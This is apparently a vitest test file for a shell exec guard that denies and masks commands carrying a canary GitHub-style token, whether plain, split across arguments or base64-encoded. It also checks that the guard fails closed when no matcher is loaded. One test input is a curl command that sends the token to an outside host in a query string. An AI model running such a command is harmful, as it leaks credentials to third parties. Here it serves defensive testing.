// Deciding one exec: hits in any argument, split across arguments, encoded; masking; fail closed without a matcher.
import { describe, expect, it } from 'vitest';
import { decideExec } from '../../../../src/guards/shell/exec-policy.js';
import { naiveContext, testCanary } from '../../../support/shell-naive-matcher.js';

const TOKEN = 'ghp_' + 'aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5';
const ctx = naiveContext([testCanary({ id: 'c1', label: 'ci', value: TOKEN, terminate: true })]);
const req = (argv: string[]) => ({ kind: 'execve', pid: 1, ppid: 0, path: '/usr/bin/' + argv[0], argv });

describe('decideExec', () => {
  it('allows clean argv', () => {
    expect(decideExec(ctx.snapshot(), req(['curl', 'https://example.com']))).toEqual({ allow: true });
  });

  it('denies a plain token and masks it', () => {
    const d = decideExec(ctx.snapshot(), req(['curl', `https://x.io/?t=${TOKEN}`]));
    expect(d).toMatchObject({ allow: false, terminate: true, reason: 'blocked exec of curl: argument carries canary "ci"' });
    if (d.allow) return;
    expect(d.fires.map((f) => [f.hit.canaryId, f.hit.variant])).toEqual([['c1', 'plain']]);
    expect(d.maskedArgv).toBe(`curl https://x.io/?t=ghp_…${TOKEN.slice(-4)}`);
  });

  it('denies a token split across two arguments and masks both parts', () => {
    const d = decideExec(ctx.snapshot(), req(['printf', TOKEN.slice(0, 15), TOKEN.slice(15)]));
    expect(d.allow).toBe(false);
    if (d.allow) return;
    expect(d.maskedArgv).not.toContain(TOKEN.slice(4, 15));
    expect(d.maskedArgv).not.toContain(TOKEN.slice(15));
  });

  it('shows an encoded hit only by its variant', () => {
    const b64 = Buffer.from(TOKEN).toString('base64');
    const d = decideExec(ctx.snapshot(), req(['echo', b64]));
    expect(d.allow).toBe(false);
    if (d.allow) return;
    expect(d.maskedArgv).toContain('«base64»');
    expect(d.maskedArgv).not.toContain(b64.slice(0, 20));
  });

  it('fails closed without a matcher, naming why', () => {
    const d = decideExec({ matcher: null, canaries: [], version: 1 }, req(['ls']));
    expect(d).toMatchObject({ allow: false, failClosed: 'canary store not loaded' });
  });
});
